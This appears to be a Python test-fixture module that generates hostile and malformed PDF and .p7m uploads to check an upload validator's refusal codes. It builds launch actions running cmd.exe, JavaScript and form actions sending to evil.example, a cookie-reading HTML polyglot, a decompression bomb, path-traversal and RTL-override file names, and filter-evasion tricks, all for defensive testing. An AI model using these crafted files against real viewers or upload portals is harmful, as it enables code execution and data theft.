"""Hostile and broken uploads, made here (nothing downloaded): PDFs and signed .p7m files.

Each entry: (name, file name as uploaded, bytes, the validator's refusal code expected).
"""

from __future__ import annotations

import functools
import io
import re
import zipfile
import zlib

from pec_sandbox.pdf import make_pdf


def good_pdf(text: str = "Modulo firmato") -> bytes:
    return make_pdf(text, ["Firmato dal richiedente"])


def _pdf(
    objects: list[bytes],
    root: int = 1,
    trailer_extra: bytes = b"",
    unlisted: frozenset = frozenset(),
) -> bytes:
    """A PDF with these objects (1-based numbers) and a correct xref table; the objects whose
    numbers are in ``unlisted`` are in the file but the table marks them free."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    for number, offset in enumerate(offsets, start=1):
        if number in unlisted:
            out += b"0000000000 00001 f \n"
        else:
            out += f"{offset:010d} 00000 n \n".encode()
    out += (
        f"trailer\n<< /Size {len(objects) + 1} /Root {root} 0 R ".encode()
        + trailer_extra
        + f">>\nstartxref\n{xref}\n%%EOF\n".encode()
    )
    return bytes(out)


PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << >> >>"
CONTENT = b"<< /Length 23 >>\nstream\nBT /F1 12 Tf (x) Tj ET\nendstream"


def with_catalog(extra: bytes, more: list[bytes] | None = None) -> bytes:
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R " + extra + b" >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            PAGE,
            CONTENT,
            *(more or []),
        ]
    )


def javascript_openaction() -> bytes:
    return with_catalog(b"/OpenAction 5 0 R", [b"<< /S /JavaScript /JS (app.alert(1)) >>"])


def launch_action() -> bytes:
    return with_catalog(
        b"/OpenAction 5 0 R", [b"<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) >> >>"]
    )


def names_javascript() -> bytes:
    return with_catalog(
        b"/Names << /JavaScript 5 0 R >>",
        [b"<< /Names [(a) 6 0 R] >>", b"<< /S /JavaScript /JS (this.print()) >>"],
    )


def embedded_file() -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(good_pdf())))
    writer.add_attachment("payload.exe", b"MZ\x90\x00 not really a program")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def encrypted() -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(good_pdf())))
    writer.encrypt(user_password="segreta", owner_password="segreta", algorithm="AES-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def encrypted_owner_only() -> bytes:
    """Opens without a password, but is encrypted (owner password: printing/copy limits)."""
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(good_pdf())))
    writer.encrypt(user_password="", owner_password="proprietario", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


@functools.cache
def bomb_stream(gigabytes: float = 1.0) -> bytes:
    """zlib of 1 GB of zeros (about 1 MB), compressed in chunks so it costs little memory."""
    comp = zlib.compressobj(9)
    chunk = bytes(1 << 20)
    parts = [comp.compress(chunk) for _ in range(int(gigabytes * 1024))]
    parts.append(comp.flush())
    return b"".join(parts)


def decompression_bomb() -> bytes:
    data = bomb_stream()
    stream = (
        b"<< /Length "
        + str(len(data)).encode()
        + b" /Filter /FlateDecode >>\nstream\n"
        + data
        + b"\nendstream"
    )
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            PAGE,
            stream,
        ]
    )


def _pdf_objstm(objects: list[bytes], hidden: set[int]) -> bytes:
    """A PDF whose objects numbered in ``hidden`` live inside one compressed object stream
    (so their keys, e.g. /JavaScript, never appear in the raw bytes), with an xref stream."""
    stm_no, xref_no = len(objects) + 1, len(objects) + 2
    header, body = b"", b""
    for number in sorted(hidden):
        header += f"{number} {len(body)} ".encode()
        body += objects[number - 1] + b" "
    data = zlib.compress(header + body)
    objstm = (
        (
            f"<< /Type /ObjStm /N {len(hidden)} /First {len(header)} /Length {len(data)} "
            "/Filter /FlateDecode >>\nstream\n"
        ).encode()
        + data
        + b"\nendstream"
    )
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, obj in enumerate([*objects, objstm], start=1):
        if number in hidden:
            continue
        offsets[number] = len(out)
        out += f"{number} 0 obj\n".encode() + obj + b"\nendobj\n"
    xref_at = len(out)
    rows = [b"\x00\x00\x00\x00\xff\xff"]
    index_in_stm = {n: i for i, n in enumerate(sorted(hidden))}
    for number in range(1, xref_no + 1):
        if number in hidden:
            rows.append(b"\x02" + stm_no.to_bytes(4, "big") + bytes([index_in_stm[number]]))
        elif number == xref_no:
            rows.append(b"\x01" + xref_at.to_bytes(4, "big") + b"\x00")
        else:
            rows.append(b"\x01" + offsets[number].to_bytes(4, "big") + b"\x00")
    xdata = b"".join(rows)
    out += (
        f"{xref_no} 0 obj\n<< /Type /XRef /Size {xref_no + 1} /W [1 4 1] /Root 1 0 R "
        f"/Length {len(xdata)} >>\nstream\n"
    ).encode()
    out += xdata + f"\nendstream\nendobj\nstartxref\n{xref_at}\n%%EOF\n".encode()
    return bytes(out)


def objstm_javascript() -> bytes:
    """/OpenAction JavaScript hidden inside a compressed object stream."""
    return _pdf_objstm(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            PAGE,
            CONTENT,
            b"<< /S /JavaScript /JS (app.alert(1)) >>",
        ],
        hidden={5},
    )


def objstm_page_aa_javascript() -> bytes:
    """A page's open action (/AA /O) running JavaScript, page and action both inside a
    compressed object stream: the raw bytes show neither /AA nor /JavaScript."""
    return _pdf_objstm(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
            b"/Resources << >> /AA << /O 5 0 R >> >>",
            CONTENT,
            b"<< /S /JavaScript /JS (app.launchURL('http://evil.example')) >>",
        ],
        hidden={3, 5},
    )


def objstm_launch_annotation() -> bytes:
    """A link annotation whose action launches a program, hidden in an object stream."""
    return _pdf_objstm(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
            b"/Resources << >> /Annots [5 0 R] >>",
            CONTENT,
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A 6 0 R >>",
            b"<< /S /Launch /F (cmd.exe) >>",
        ],
        hidden={3, 5, 6},
    )


def many_pages(n: int = 5000) -> bytes:
    kids = " ".join(f"{3 + i} 0 R" for i in range(n)).encode()
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [" + kids + b"] /Count " + str(n).encode() + b" >>",
    ]
    objects += [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"] * n
    return _pdf(objects)


def zip_polyglot() -> bytes:
    """A PDF that is also a ZIP archive (the archive appended after %%EOF)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("evil.html", "<script>alert(1)</script>")
    return good_pdf() + buf.getvalue()


def zip_with_pdf_header() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("%PDF-1.4.txt", "%PDF-1.4 not a pdf")
    return buf.getvalue()


def html_polyglot() -> bytes:
    return b"%PDF-1.4\n<html><body><script>alert(document.cookie)</script></body></html>\n"


def html_after_header() -> bytes:
    """A valid PDF with an HTML page smuggled in a comment-like trailer."""
    return good_pdf().replace(
        b"%PDF-1.4\n", b"%PDF-1.4\n%<html><script>alert(1)</script></html>\n", 1
    )


def truncated() -> bytes:
    data = good_pdf()
    return data[: len(data) // 2]


def truncated_tail() -> bytes:
    """Everything but the last 40 bytes (trailer and %%EOF lost)."""
    data = good_pdf()
    return data[:-40]


PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00"
    b"\x1f\x15\xc4\x89\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N\x00"
    b"\x00\x00\x00IEND\xaeB`\x82"
)


def big(mb: int = 50) -> bytes:
    head = good_pdf()
    return head + b"%" + b"0" * (mb * 1024 * 1024 - len(head) - 1)


#: (label, uploaded file name, content factory, expected refusal code of portal.pdf)
PDF_CORPUS = [
    ("empty file", "vuoto.pdf", lambda: b"", "empty"),
    ("text renamed .pdf", "lettera.pdf", lambda: b"Gentile cliente,\nin allegato...\n", "not_pdf"),
    ("PNG renamed .pdf", "foto.pdf", lambda: PNG, "not_pdf"),
    ("Windows program renamed .pdf", "setup.pdf", lambda: b"MZ\x90\x00" + b"\x00" * 200, "not_pdf"),
    ("PDF header + HTML", "modulo.pdf", html_polyglot, "broken"),
    ("truncated PDF (half)", "modulo.pdf", truncated, "broken"),
    ("truncated PDF (trailer cut)", "modulo.pdf", truncated_tail, "broken"),
    ("encrypted PDF (user password)", "modulo.pdf", encrypted, "encrypted"),
    ("encrypted PDF (owner password only)", "modulo.pdf", encrypted_owner_only, "encrypted"),
    ("/OpenAction /JavaScript", "modulo.pdf", javascript_openaction, "active_content"),
    ("/Names /JavaScript", "modulo.pdf", names_javascript, "active_content"),
    ("/Launch action", "modulo.pdf", launch_action, "active_content"),
    ("embedded file", "modulo.pdf", embedded_file, "active_content"),
    ("JavaScript in a compressed object stream", "modulo.pdf", objstm_javascript, "active_content"),
    ("5,000 pages", "modulo.pdf", many_pages, "too_many_pages"),
    ("50 MB file", "modulo.pdf", big, "too_big"),
    ("path traversal name, HTML inside", "../../../etc/passwd.pdf", html_polyglot, "broken"),
    ("NUL in the name, text inside", "modulo\x00.exe.pdf", lambda: b"hello", "not_pdf"),
    (
        "unicode RTL-override name, encrypted",
        "documento\u202efdp.exe",
        encrypted,
        "encrypted",
    ),
    ("decompression bomb (1 GB of zeros, FlateDecode)", "modulo.pdf", decompression_bomb, "bomb"),
    ("PDF + ZIP polyglot (archive after %%EOF)", "modulo.pdf", zip_polyglot, "polyglot"),
    (
        "ZIP with %PDF- in its first 1 KB, renamed .pdf",
        "modulo.pdf",
        zip_with_pdf_header,
        "not_pdf",
    ),
    (
        "page /AA JavaScript in a compressed object stream",
        "modulo.pdf",
        objstm_page_aa_javascript,
        "active_content",
    ),
    (
        "/Launch link annotation in an object stream",
        "modulo.pdf",
        objstm_launch_annotation,
        "active_content",
    ),
]


def three_d_on_instantiate() -> bytes:
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            PAGE.replace(b"/Resources << >>", b"/Resources << >> /Annots [5 0 R]"),
            CONTENT,
            b"<< /Type /Annot /Subtype /3D /Rect [0 0 595 842] /3DD 6 0 R >>",
            b"<< /Type /3D /Subtype /U3D /OnInstantiate 7 0 R /Length 2 >>\nstream\nU3\nendstream",
            b"<< /Length 12 >>\nstream\napp.alert(1)\nendstream",
        ]
    )


def _issue_cases() -> list[tuple[str, object]]:
    """The files found passing the check from outside (one of each), for the upload pages."""
    return [
        (
            "Launch with an indirect /S (#-escaped) in a full-page link",
            lambda: _placed(ACTIONS["Launch"], b"/L#61unch", True, "page"),
        ),
        (
            "file-attachment annotation with an indirect /Subtype",
            lambda: _placed(ANNOTATIONS["FileAttachment"], b"/FileAttachment", True, "page"),
        ),
        (
            "executable attached through the catalog's /AF",
            lambda: _catalog_case(*CATALOG_CASES[0][1:]),
        ),
        (
            "/GoToE with an indirect /S",
            lambda: _placed(ACTIONS["GoToE"], b"/GoToE", True, "catalog"),
        ),
        ("3D annotation with /OnInstantiate JavaScript", three_d_on_instantiate),
    ]


PDF_CORPUS += [(label, "modulo.pdf", make, "active_content") for label, make in _issue_cases()]

#: Hostile files the validator should refuse but accepts (none today; xfail them with the bug).
PDF_CORPUS_GAPS: list = []


# --------------------------------------------------------------------------- .p7m


def _factories():
    from tests.comunica import factories

    return factories


def p7m(content: bytes | None = None, **kw) -> bytes:
    return _factories().make_p7m(content if content is not None else good_pdf("Procura"), **kw)


def corrupted_der() -> bytes:
    data = bytearray(p7m())
    data[19:60] = b"\xff" * 41  # the SignedData header, after the content type
    return bytes(data)


def truncated_der() -> bytes:
    data = p7m()
    return data[: len(data) // 3]


def tampered_content() -> bytes:
    """The signed PDF altered after signing (same length): the signature no longer matches."""
    data = p7m(good_pdf("Procura per Mario Rossi"))
    return data.replace(b"Mario Rossi", b"Mario Bianc", 1)


def not_signed_data() -> bytes:
    from asn1crypto import cms

    return cms.ContentInfo({"content_type": "data", "content": b"%PDF-1.4 hello"}).dump()


def pem_garbage() -> bytes:
    return b"-----BEGIN PKCS7-----\n!!!! this is not base64 at all ####\n-----END PKCS7-----\n"


def p7m_of_text() -> bytes:
    return p7m(b"Procura: io sottoscritto... (un file di testo, non un PDF)")


def p7m_of_html() -> bytes:
    return p7m(b"<html><script>alert(1)</script></html>")


def p7m_of_encrypted_pdf() -> bytes:
    return p7m(encrypted())


def p7m_of_javascript_pdf() -> bytes:
    return p7m(javascript_openaction())


def p7m_too_big() -> bytes:
    return b"\x30\x84" + b"\x00" * (11 * 1024 * 1024)


#: (label, uploaded name, content factory, expected P7mRejected.code)
P7M_CORPUS = [
    ("empty file", "procura.p7m", lambda: b"", "empty"),
    ("plain PDF renamed .p7m", "procura.pdf.p7m", good_pdf, "plain_pdf"),
    ("random bytes", "procura.p7m", lambda: bytes(range(256)) * 8, "not_p7m"),
    ("text renamed .p7m", "procura.p7m", lambda: "Non firmato ✍".encode() * 3, "not_p7m"),
    ("PNG renamed .p7m", "procura.p7m", lambda: PNG, "not_p7m"),
    ("corrupted DER", "procura.p7m", corrupted_der, "corrupted"),
    ("truncated DER", "procura.p7m", truncated_der, "corrupted"),
    ("PEM with garbage inside", "procura.p7m", pem_garbage, "corrupted"),
    ("CMS that is not signed data", "procura.p7m", not_signed_data, "not_signed_data"),
    ("detached signature", "procura.p7s", lambda: _factories().make_detached_p7m(), "detached"),
    (".p7m wrapping a text file", "procura.p7m", p7m_of_text, "not_pdf"),
    (".p7m wrapping HTML", "procura.p7m", p7m_of_html, "not_pdf"),
    ("content altered after signing", "procura.p7m", tampered_content, "bad_signature"),
    (".p7m wrapping an encrypted PDF", "procura.p7m", p7m_of_encrypted_pdf, "pdf_rejected"),
    ("11 MB file", "procura.p7m", p7m_too_big, "too_large"),
    ("path traversal name, plain PDF", "../../procura.p7m", good_pdf, "plain_pdf"),
    (".p7m wrapping a PDF with JavaScript", "procura.p7m", p7m_of_javascript_pdf, "pdf_rejected"),
    (
        ".p7m wrapping a PDF with page /AA JavaScript in an object stream",
        "procura.p7m",
        lambda: p7m(objstm_page_aa_javascript()),
        "pdf_rejected",
    ),
]
P7M_CORPUS += [
    (f".p7m wrapping a PDF: {label}", "procura.p7m", lambda make=make: p7m(make()), "pdf_rejected")
    for label, make in _issue_cases()
]
P7M_CORPUS_GAPS: list = []


# --------------------------------------------------------------------------- active content
#
# Every kind of active content × its decisive value (/S, /Subtype, /Type) written directly or
# behind an indirect reference × where it sits: reached from a page (a full-page link or the
# page's annotations), from the catalog, an object nothing refers to, an object the
# cross-reference table leaves out, inside a compressed object stream. Object numbers: 1
# catalog, 2 page tree, 3 page, 4 content, 5 the active object, 6 its decisive name (when
# indirect), 7 the link annotation or the other object the active one needs.

#: Actions that run, open or send something: kind -> the action with its /S left as %V%.
ACTIONS = {
    "JavaScript": b"<< /Type /Action /S %V% /JS (app.alert(1)) >>",
    "Launch": b"<< /Type /Action /S %V% /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>",
    "URI to a program": b"<< /S %V% /URI (file:///C:/Windows/System32/cmd.exe) >>",
    "URI to a script": b"<< /S %V% /URI (javascript:app.alert(1)) >>",
    "URI to a share": b"<< /S %V% /URI (\\\\\\\\server\\\\share\\\\x.exe) >>",
    "SubmitForm": b"<< /S %V% /F << /FS /URL /F (http://evil.example/) >> /Flags 4 >>",
    "ImportData": b"<< /S %V% /F (dati.fdf) >>",
    "GoToR": b"<< /S %V% /F (\\\\\\\\server\\\\share\\\\altro.pdf) /D [0 /Fit] >>",
    "GoToE": b"<< /S %V% /NewWindow true /T << /R /C /N (payload.exe) >> >>",
    "Rendition": b"<< /S %V% /OP 0 >>",
    "Sound": b"<< /S %V% /Volume 1.0 >>",
    "Movie": b"<< /S %V% /Operation /Play >>",
    "RichMediaExecute": b"<< /S %V% /CMD << /C (play) >> >>",
    "GoTo3DView": b"<< /S %V% /V 0 >>",
    "Thread": b"<< /S %V% /F (altro.pdf) /D 0 >>",
}
#: Annotations that carry files, media or 3D: kind -> the annotation with /Subtype as %V%.
ANNOTATIONS = {
    kind: b"<< /Type /Annot /Subtype %V% /Rect [0 0 595 842] /Contents (x) >>"
    for kind in ("FileAttachment", "Sound", "Movie", "Screen", "3D", "RichMedia", "Projection")
}
#: Other objects: kind -> (the object with its decisive value as %V%, that value, object 7).
OBJECTS = {
    "EmbeddedFile stream": (
        b"<< /Type %V% /Length 2 >>\nstream\nMZ\nendstream",
        b"/EmbeddedFile",
        None,
    ),
    "Filespec with /EF": (
        b"<< /Type /Filespec /F (payload.exe) /EF %V% >>",
        b"<< /F 7 0 R >>",
        b"<< /Length 2 >>\nstream\nMZ\nendstream",
    ),
    "3D stream with /OnInstantiate JavaScript": (
        b"<< /Type /3D /Subtype %V% /OnInstantiate 7 0 R /Length 2 >>\nstream\nU3\nendstream",
        b"/U3D",
        b"<< /Length 10 >>\nstream\napp.alert()\nendstream",
    ),
    "U3D stream": (b"<< /Subtype %V% /Length 2 >>\nstream\nU3\nendstream", b"/U3D", None),
    "Rendition": (b"<< /Type %V% /S /MR /C << /Type /MediaClip >> >>", b"/Rendition", None),
    "MediaClip": (b"<< /Type %V% /S /MCD /D (movie.mp4) >>", b"/MediaClip", None),
    "Sound object": (b"<< /Type %V% /R 8000 /Length 2 >>\nstream\n..\nendstream", b"/Sound", None),
    "RichMediaContent": (b"<< /Type %V% /Assets << >> >>", b"/RichMediaContent", None),
    "automatic action (/AA) on an object": (
        b"<< /Type /Annot /Subtype /Widget /Rect [0 0 10 10] /AA %V% >>",
        b"<< /O << /S /GoTo /D [3 0 R /Fit] >> >>",
        None,
    ),
}
#: Active content that only the catalog holds: (label, catalog entries, further objects from 5).
CATALOG_CASES = [
    (
        "/AF associated executable",
        b"/AF [5 0 R]",
        [
            b"<< /Type /Filespec /F (x.exe) /EF << /F 6 0 R >> >>",
            b"<< /Length 2 >>\nstream\nMZ\nendstream",
        ],
    ),
    (
        "/AF indirect array",
        b"/AF 5 0 R",
        [b"[6 0 R]", b"<< /Type /Filespec /F (x.exe) /UF (x.exe) >>"],
    ),
    (
        "/Names /EmbeddedFiles",
        b"/Names << /EmbeddedFiles 5 0 R >>",
        [b"<< /Names [(x.exe) 6 0 R] >>", b"<< /Type /Filespec /F (x.exe) >>"],
    ),
    (
        "/Names indirect, /JavaScript",
        b"/Names 5 0 R",
        [b"<< /JavaScript 6 0 R >>", b"<< /Names [(a) << /S /Named /N /Print >>] >>"],
    ),
    ("/Collection (portfolio)", b"/Collection << /Type /Collection /View /D >>", []),
    (
        "/AcroForm /XFA",
        b"/AcroForm << /Fields [] /XFA 5 0 R >>",
        [b"<< /Length 9 >>\nstream\n<xdp:xdp>\nendstream"],
    ),
    ("document /AA (on close)", b"/AA << /WC 5 0 R >>", [b"<< /S /GoTo /D [3 0 R /Fit] >>"]),
    ("document /AA indirect", b"/AA 5 0 R", [b"<< /WP << /S /Named /N /Print >> >>"]),
    ("/OpenAction /Named /Print", b"/OpenAction << /S /Named /N /Print >>", []),
    (
        "/OpenAction indirect /S /URI",
        b"/OpenAction 5 0 R",
        [b"<< /S 6 0 R /URI (http://evil.example/) >>", b"/URI"],
    ),
    (
        "page /AA indirect",
        b"/Extra 5 0 R",
        [b"<< /Type /Page /Parent 2 0 R /AA 6 0 R >>", b"<< /O << /S /GoTo /D [3 0 R /Fit] >> >>"],
    ),
    (
        "outline item with a Launch",
        b"/Outlines 5 0 R",
        [
            b"<< /Type /Outlines /First 6 0 R /Last 6 0 R /Count 1 >>",
            b"<< /Title (x) /Parent 5 0 R /A << /S /Launch /F (cmd.exe) >> >>",
        ],
    ),
    (
        "form field with SubmitForm",
        b"/AcroForm << /Fields [5 0 R] >>",
        [
            b"<< /FT /Btn /T (ok) /Kids [6 0 R] >>",
            b"<< /Type /Annot /Subtype /Widget /Parent 5 0 R /Rect [0 0 9 9] /A << /S 7 0 R /F "
            b"(http://x/) >> >>",
            b"/SubmitForm",
        ],
    ),
    (
        "/JavaScript name spelled with #-escapes",
        b"/OpenAction 5 0 R",
        [b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>"],
    ),
    (
        "/Launch behind a chain of references",
        b"/OpenAction 5 0 R",
        [b"<< /S 6 0 R /F (cmd.exe) >>", b"7 0 R", b"/Launch"],
    ),
]
PLACEMENTS = ("page", "page, inline action", "catalog", "orphan", "unlisted", "object stream")


def _placed(body: bytes, value: bytes, indirect: bool, placement: str, seventh=None) -> bytes:
    """A one-page PDF holding ``body`` (object 5, its decisive value ``value``) at
    ``placement``; ``seventh`` is object 7 when the body needs one (else the link)."""
    decisive = b"6 0 R" if indirect else value
    active = body.replace(b"%V%", decisive)
    catalog = b"<< /Type /Catalog /Pages 2 0 R >>"
    page_extra = b""
    is_action = body.startswith((b"<< /S ", b"<< /Type /Action"))
    if placement in ("page", "object stream"):
        if is_action:
            page_extra = b"/Annots [7 0 R]"
            seventh = (
                b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /Border [0 0 0] /A 5 0 R >>"
            )
        elif b"/Annot" in body:
            page_extra = b"/Annots [5 0 R]"
        else:
            page_extra = b"/Resources << /XObject << /X0 5 0 R >> >>"
    elif placement == "page, inline action":
        if not is_action:
            raise ValueError(placement)
        page_extra = b"/Annots [7 0 R]"
        seventh = b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A " + active + b" >>"
        active = b"<< /Type /Action /S /GoTo /D [3 0 R /Fit] >>"
    elif placement == "catalog":
        if is_action:
            catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>"
        else:
            catalog = (
                b"<< /Type /Catalog /Pages 2 0 R /PieceInfo << /App << /Private 5 0 R >> >> >>"
            )
    page = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        + page_extra
        + b" >>"
    )
    objects = [catalog, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page, CONTENT, active, value]
    objects.append(seventh if seventh is not None else b"null")
    if placement == "unlisted":
        return _pdf(objects, unlisted=frozenset({5}))
    if placement == "object stream":
        hidden = {n for n in (3, 5, 6, 7) if b"stream" not in objects[n - 1]}
        return _pdf_objstm(objects, hidden=hidden)
    return _pdf(objects)


def _catalog_case(entries: bytes, more: list[bytes]) -> bytes:
    return with_catalog(entries, more)


def active_content_matrix() -> list[tuple[str, object]]:
    """(label, factory) for every hostile combination (each refused as active_content)."""
    cases = []
    for kinds, role in ((ACTIONS, "action"), (ANNOTATIONS, "annotation")):
        for kind, body in kinds.items():
            for indirect in (False, True):
                for placement in PLACEMENTS:
                    if placement == "page, inline action" and role != "action":
                        continue
                    label = (
                        f"{role} {kind}, {'indirect' if indirect else 'direct'} value, {placement}"
                    )
                    cases.append(
                        (
                            label,
                            functools.partial(
                                _placed, body, b"/" + kind.encode(), indirect, placement
                            ),
                        )
                    )
    for kind, (body, value, seventh) in OBJECTS.items():
        for indirect in (False, True):
            for placement in ("page", "catalog", "orphan", "unlisted", "object stream"):
                label = f"{kind}, {'indirect' if indirect else 'direct'} value, {placement}"
                cases.append(
                    (label, functools.partial(_placed, body, value, indirect, placement, seventh))
                )
    for label, entries, more in CATALOG_CASES:
        cases.append((label, functools.partial(_catalog_case, entries, more)))
    return cases


# --------------------------------------------------------------------------- ordinary files
#
# What offices really upload, each of which must pass: scans (JPEG, CCITT, Flate images, some
# megabytes of image data that happen to spell "/JS"), forms with fields, links inside the
# document, outlines, ordinary annotations, tagged PDFs, a signed form (signature field, DocMDP,
# an incremental update), compressed object streams.


def _image(data: bytes, filt: bytes, extra: bytes = b"") -> bytes:
    return (
        b"<< /Type /XObject /Subtype /Image /Width 2480 /Height 3508 /ColorSpace /DeviceGray "
        b"/BitsPerComponent 8 /Filter "
        + filt
        + b" "
        + extra
        + b" /Length "
        + str(len(data)).encode()
        + b" >>\nstream\n"
        + data
        + b"\nendstream"
    )


def _scan(images: list[bytes]) -> bytes:
    """One page per image, each drawing its image full page."""
    n = len(images)
    kids = " ".join(f"{3 + 3 * i} 0 R" for i in range(n)).encode()
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [" + kids + b"] /Count " + str(n).encode() + b" >>",
    ]
    draw = b"q 595 0 0 842 0 0 cm /Im0 Do Q"
    for i, image in enumerate(images):
        objects += [
            f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents {5 + 3 * i} 0 R "
            f"/Resources << /XObject << /Im0 {4 + 3 * i} 0 R >> >> >>".encode(),
            image,
            b"<< /Length " + str(len(draw)).encode() + b" >>\nstream\n" + draw + b"\nendstream",
        ]
    return _pdf(objects)


def _noise(size: int, seed: int) -> bytes:
    import random

    return random.Random(seed).randbytes(size)


def jpeg_scan(mb: float = 9.0, pages: int = 3) -> bytes:
    """A scan of ``pages`` JPEG pages, ``mb`` MB in all; the image data spells /JS and
    /JavaScript here and there, as a few MB of any compressed image do by chance."""
    each = int(mb * 1024 * 1024 / pages)
    images = []
    for page in range(pages):
        data = bytearray(b"\xff\xd8\xff\xe0" + _noise(each, page))
        data[each // 3 : each // 3 + 4] = b"/JS "
        data[each // 2 : each // 2 + 12] = b"/JavaScript)"
        images.append(_image(bytes(data), b"/DCTDecode"))
    return _scan(images)


def fax_scan() -> bytes:
    """A black-and-white scan: CCITT G4 and JBIG2 pages (with their decode parameters)."""
    return _scan(
        [
            _image(
                _noise(200_000, 7),
                b"/CCITTFaxDecode",
                b"/DecodeParms << /K -1 /Columns 2480 /Rows 3508 >>",
            ),
            _image(_noise(150_000, 8), b"/JBIG2Decode"),
        ]
    )


def flate_scan() -> bytes:
    """A Flate page image with a soft mask, on a transparency group."""
    pixels = zlib.compress(bytes(range(256)) * 4096)
    mask = zlib.compress(b"\xff" * 65536)
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /Lang (it-IT) /MarkInfo << /Marked true >> >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
            b"/Group << /S /Transparency /CS /DeviceRGB >> /Resources << /XObject << /Im0 5 0 R >> "
            b"/ExtGState << /G0 << /SMask << /S /Luminosity /G 6 0 R >> >> >> >> >>",
            b"<< /Length 30 >>\nstream\nq 595 0 0 842 0 0 cm /Im0 Do Q\nendstream",
            b"<< /Type /XObject /Subtype /Image /Width 1024 /Height 1024 /ColorSpace /DeviceGray "
            b"/BitsPerComponent 8 /Filter /FlateDecode /SMask 6 0 R /Length "
            + str(len(pixels)).encode()
            + b" >>\nstream\n"
            + pixels
            + b"\nendstream",
            b"<< /Type /XObject /Subtype /Image /Width 256 /Height 256 /ColorSpace /DeviceGray "
            b"/BitsPerComponent 8 /Filter [/ASCIIHexDecode /FlateDecode] /Length "
            + str(len(mask.hex()) + 1).encode()
            + b" >>\nstream\n"
            + mask.hex().encode()
            + b">\nendstream",
        ]
    )


def _widget(name: bytes, rect: bytes, extra: bytes = b"") -> bytes:
    return (
        b"<< /Type /Annot /Subtype /Widget /FT /Tx /T ("
        + name
        + b") /V (Mario Rossi) /Rect ["
        + rect
        + b"] /P 3 0 R /DA (/Helv 10 Tf 0 g) /F 4 /MK << /BG [1] >> /BS << /S /S /W 1 >> "
        + extra
        + b" >>"
    )


def linked_form() -> bytes:
    """A filled form: text fields and a checkbox, links to other pages (destination, GoTo,
    Named) and to a web page, outlines, page labels, a destination on opening, and ordinary
    annotations."""
    annots = b"/Annots [6 0 R 7 0 R 8 0 R 9 0 R 10 0 R 11 0 R 12 0 R 13 0 R 14 0 R 15 0 R 16 0 R]"
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] /PageMode /UseOutlines "
            b"/Outlines 17 0 R /PageLabels << /Nums [0 << /S /D /St 1 >>] >> "
            b"/AcroForm << /Fields [6 0 R 7 0 R 8 0 R] /DA (/Helv 0 Tf 0 g) /NeedAppearances "
            b"true >> "
            b"/ViewerPreferences << /DisplayDocTitle true >> /Names << /Dests 19 0 R >> >>",
            b"<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 5 0 R "
            b"/Trans << /S /R >> " + annots + b" >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 5 0 R >>",
            CONTENT.replace(b"/Length 23", b"/Length 23"),
